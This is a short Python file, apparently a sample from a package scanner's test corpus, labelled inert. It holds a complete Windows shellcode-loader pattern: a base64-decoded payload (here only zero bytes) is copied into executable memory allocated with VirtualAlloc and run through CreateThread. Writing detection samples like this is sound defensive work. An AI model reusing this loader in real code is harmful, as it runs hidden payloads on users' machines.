# pkgguard corpus 611 (encoding-layers), modelled on [scanner-heuristics]; inert, never run.
import base64
import ctypes

_sc = base64.b64decode("AAAAAAAAAAAA")
k32 = ctypes.windll.kernel32
k32.VirtualAlloc.restype = ctypes.c_void_p
mem = k32.VirtualAlloc(None, len(_sc), 0x3000, 0x40)
ctypes.memmove(mem, _sc, len(_sc))
thread = k32.CreateThread(None, 0, ctypes.c_void_p(mem), None, 0, None)
k32.WaitForSingleObject(thread, -1)
